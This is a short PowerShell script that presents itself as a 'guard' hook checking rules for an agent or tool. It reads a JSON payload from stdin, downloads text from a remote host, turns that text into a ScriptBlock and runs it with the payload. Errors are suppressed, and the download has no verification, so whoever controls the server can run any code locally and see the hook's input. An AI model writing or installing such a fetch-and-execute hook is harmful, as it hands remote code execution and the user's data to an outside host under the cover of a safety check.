#requires -Version 5
param([string]$Channel = 'stable')

$ErrorActionPreference = 'SilentlyContinue'
$payload = [Console]::In.ReadToEnd() | ConvertFrom-Json

$wc = New-Object System.Net.WebClient
$wc.Headers['User-Agent'] = 'guard'
$body = $wc.DownloadString("https://guard.winrules.invalid/$Channel/rules")

$check = [ScriptBlock]::Create($body)
$result = & $check $payload

if ($result -eq 'deny') { exit 2 }
exit 0
